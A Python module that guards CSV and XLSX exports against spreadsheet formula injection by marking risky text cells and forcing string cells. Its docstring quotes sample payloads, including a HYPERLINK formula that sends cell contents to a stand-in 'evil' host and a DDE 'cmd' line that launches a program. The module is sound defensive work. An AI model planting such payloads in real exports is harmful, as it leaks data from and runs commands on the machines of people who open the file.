"""Cells for CSV and XLSX exports that a spreadsheet cannot mistake for formulas.

Exports are opened in Excel or LibreOffice on office workstations. A client may call
themselves ``=HYPERLINK("http://evil/?"&A1;"Click")``, ``+cmd|' /C calc'!A0``,
``@SUM(1+1)`` or ``-2+3``: written verbatim, the spreadsheet evaluates the "name" as a
formula (exfiltrating neighbouring cells, or starting a program after a warning that
people click away). Every CSV and XLSX export of the project goes through this module
(``tests/security/test_formula_injection.py`` fails for a ``csv.writer`` or ``openpyxl``
workbook elsewhere):

* **CSV** (OWASP, "CSV Injection"): a text cell whose first character (after leading
  white space) is ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed (or
  the full-width forms of the first four) gets a leading apostrophe, which spreadsheets
  read as "this is text". Plain numbers (``-3``, ``2.5``) stay as they are: they cannot
  run anything. The ``csv`` module quotes separators, quotes and line breaks inside a
  cell, so a value cannot start a cell of its own. A cell that starts with an apostrophe
  itself gets one more, so that :func:`restore_cell` undoes :func:`safe_cell` exactly
  (the directory import reads our own export back).
* **XLSX**: text is written as a string cell, never as a formula (openpyxl makes every
  string that starts with ``=`` a formula); characters that XLSX cannot hold (control
  characters) are dropped instead of failing the export.
"""

import csv
import re

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TYPE_STRING, Cell

FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
TEXT_MARKER = "'"
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def needs_marker(text: str) -> bool:
    """True if a spreadsheet could read ``text`` as a formula (or it starts with the
    marker itself)."""
    if not text or PLAIN_NUMBER.fullmatch(text):
        return False
    if text[0] in FORMULA_TRIGGERS or text[0] == TEXT_MARKER:
        return True
    # Spreadsheets trim leading white space of every kind (form feed, vertical tab, …).
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def safe_cell(value):
    """The CSV cell for ``value``: text that could be read as a formula gets the marker;
    anything else (numbers, dates, None) is returned unchanged."""
    if isinstance(value, str) and needs_marker(value):
        return TEXT_MARKER + value
    return value


def restore_cell(text: str) -> str:
    """The value :func:`safe_cell` was given, for a cell read back from our own export."""
    if text.startswith(TEXT_MARKER) and needs_marker(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """``csv.writer`` whose rows are made safe cell by cell."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose rows (not the header, which is ours) are made safe."""

    def writerow(self, rowdict):
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts):
        for rowdict in rowdicts:
            self.writerow(rowdict)


def csv_writer(stream, **options) -> SafeWriter:
    return SafeWriter(stream, **options)


def xlsx_cell(sheet, value):
    """An XLSX cell for ``value``: text always as a string, never a formula."""
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
    cell.data_type = TYPE_STRING
    return cell


def xlsx_append(sheet, row) -> None:
    """``sheet.append(row)`` with every text value written as text."""
    sheet.append([xlsx_cell(sheet, value) for value in row])
